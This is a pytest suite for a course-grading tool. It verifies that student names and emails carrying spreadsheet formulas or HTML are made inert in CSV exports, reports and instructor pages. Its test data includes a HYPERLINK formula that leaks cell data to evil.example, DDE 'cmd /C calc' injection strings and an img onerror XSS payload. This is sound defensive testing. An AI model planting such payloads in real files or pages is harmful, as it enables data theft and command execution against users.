"""A roster name is hostile data too: markup and spreadsheet formulas in first name, last name and
email must reach no CSV as a live formula and no page as live HTML (export csv/canvas/moodle,
`course-tools report`, the analytics view, the grading dashboard, feedback)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from course_tools.cli import main
from course_tools.content.loader import Course, load_course
from course_tools.grading.feedback import feedback
from course_tools.rubric.grader import Grading
from course_tools.rubric.report import write_report
from course_tools.widgets.instructor.analytics import analytics_view
from course_tools.widgets.instructor.dashboard import Dashboard
from tests.paths import CONTENT
from tests.support.classroom import student_id
from tests.support.rubric_class import built_class, class_dir, grading  # noqa: F401 (pytest fixtures)

A = "review6"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
MARKUP = '<img src=x onerror="window.__pwned=1">Eve'
HOSTILE = {2: (FORMULA, MARKUP, "@SUM(1+1)*cmd|' /C calc'!A0"),  # student 2 is late: on the late table too
           1: ("+cmd|' /C calc'!A0", "-2+3", "\tx@example.org"), 3: ("\rCarriage", "Plain", "ok@example.org")}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, kept apart from the code under test
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture(scope="session")
def course() -> Course:
    """The repository's content (the rubric class), not the safety tests' fixture content."""
    return load_course(CONTENT)


@pytest.fixture
def hostile(grading: Grading) -> Grading:  # noqa: F811 (the imported fixture)
    with Gradebook(grading.ctx.db_url, grading.ctx.course_id) as gb:
        for number, (first, last, email) in HOSTILE.items():
            gb.update_or_create_student(student_id(number), first_name=first, last_name=last, email=email)
    grading.save(A, "q1", student_id(1), ["kp-phase-one"], 0, "Seen.")
    return grading


def formula_cells(path: Path) -> list[str]:
    """Text cells (header included) a spreadsheet would read as a formula."""
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


def test_no_csv_we_write_starts_a_formula(hostile: Grading, tmp_path: Path) -> None:
    root = str(hostile.ctx.root)
    written = []
    for fmt in ("csv", "canvas", "moodle"):
        out = tmp_path / f"{fmt}.csv"
        assert main(["export", A, "--course", root, "--format", fmt, "--title", "=1+1 Review", "--out", str(out)]) == 0
        written.append(out)
    assert main(["report", "--course", root, "--out", str(tmp_path / "reports")]) == 0
    reports = sorted((tmp_path / "reports").glob("*.csv"))
    assert len(reports) == 4
    for path in written + reports:
        assert formula_cells(path) == [], path.name
    text = (tmp_path / "moodle.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in text  # kept, only made inert
    assert "'=1+1 Review" in (tmp_path / "canvas.csv").read_text(encoding="utf-8").splitlines()[0]
    late = (tmp_path / "reports" / f"{A}_late.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in late and "<img" in late  # names of the late student 2 (CSV is not HTML)
    grades = list(csv.DictReader((tmp_path / "csv.csv").open(encoding="utf-8")))
    assert float(grades[0]["final_score"]) >= 0  # numbers stay numbers


def _live_markup(page: str) -> list[str]:
    """The name's tag as markup: escaped text has `&lt;img`, never `<img` (no parser needed)."""
    return re.findall(r"<img[^>]*>", page, flags=re.IGNORECASE)


def test_names_with_markup_stay_text_on_every_page(hostile: Grading) -> None:
    view = Dashboard(hostile)
    view.show_names.value = True
    view.show(student_id(2))
    assert MARKUP.split(">")[0] in view.heading.value.replace("&lt;", "<").replace("&quot;", '"')  # shown...
    assert _live_markup(view.heading.value) == []  # ...as text
    labels = " ".join(label for label, _ in view.queue.options)  # a Select's labels are plain text
    assert "Eve" in labels
    report = write_report(hostile, A)
    page = "".join(getattr(child, "value", "") for child in analytics_view(report).children)
    assert "onerror" in page and _live_markup(page) == []
    feedback(hostile.ctx.root, A, release_it=False)
    html = (hostile.ctx.root / "feedback" / student_id(2) / A / f"{A}.html").read_text(encoding="utf-8")
    assert "window.__pwned" not in html
